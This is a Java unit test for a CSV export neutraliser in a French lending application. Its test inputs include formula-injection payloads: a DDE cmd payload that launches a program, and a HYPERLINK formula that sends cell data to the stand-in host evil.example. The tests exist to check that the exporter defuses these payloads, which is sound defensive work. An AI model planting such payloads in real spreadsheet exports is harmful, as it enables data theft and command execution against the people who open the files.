package fr.ecole.lending.imports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.Arrays;
import org.junit.jupiter.api.Test;

/** The one neutraliser of CSV cells: a formula a person typed is written as text, a number as a number. */
class SpreadsheetCsvTest {

    @Test
    void formulaInjectionIsWrittenAsText() {
        for (String formula : new String[] {"=1+1", "+1+cmd|' /C calc'!A0", "-2-3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                "=HYPERLINK(\"http://evil.example/?\"&C2&D2;\"Cliquez ici\")", "  =1+1", " @A1", "-A1", "+", "-", "="}) {
            assertThat(SpreadsheetCsv.cell(formula)).as(formula).isEqualTo("'" + formula);
        }
    }

    @Test
    void ordinaryTextIsLeftAlone() {
        for (String text : new String[] {"", "Famille Dupont", "Jean-Pierre", "O'Brien", "a=b", "1+1", " espace",
                "AGR-2026-000042", "2026-09-01", "2026-09-01T08:00:00Z", "famille@example.org", "'=déjà texte"}) {
            assertThat(SpreadsheetCsv.cell(text)).as(text).isEqualTo(text);
        }
    }

    @Test
    void plainNumbersStayNumbersWhateverTheirSign() {
        assertThat(SpreadsheetCsv.cell(-3)).isEqualTo("-3");
        assertThat(SpreadsheetCsv.cell(-3L)).isEqualTo("-3");
        assertThat(SpreadsheetCsv.cell(new BigDecimal("-12.50"))).isEqualTo("-12,50");
        assertThat(SpreadsheetCsv.cell(new BigDecimal("1E+3"))).isEqualTo("1000");
        // a number written as text (a phone in international form, a negative figure) computes nothing either
        assertThat(SpreadsheetCsv.cell("-3")).isEqualTo("-3");
        assertThat(SpreadsheetCsv.cell("+33612345678")).isEqualTo("+33612345678");
        assertThat(SpreadsheetCsv.cell("-1,5")).isEqualTo("-1,5");
        assertThat(SpreadsheetCsv.cell(null)).isEmpty();
    }

    @Test
    void everyRowGoesThroughTheNeutraliserWithTheFileAFrenchSpreadsheetOpens() throws Exception {
        StringWriter out = new StringWriter();
        try (SpreadsheetCsv csv = SpreadsheetCsv.writer(out)) {
            csv.row("nom", "nombre", "taux");
            csv.row("=1+1", -3, new BigDecimal("0.25"));
            csv.row(Arrays.asList("a;b", null, "@x"));
        }
        assertThat(out.toString()).isEqualTo("\uFEFFnom;nombre;taux\n'=1+1;-3;0,25\n\"a;b\";;'@x\n");
    }
}
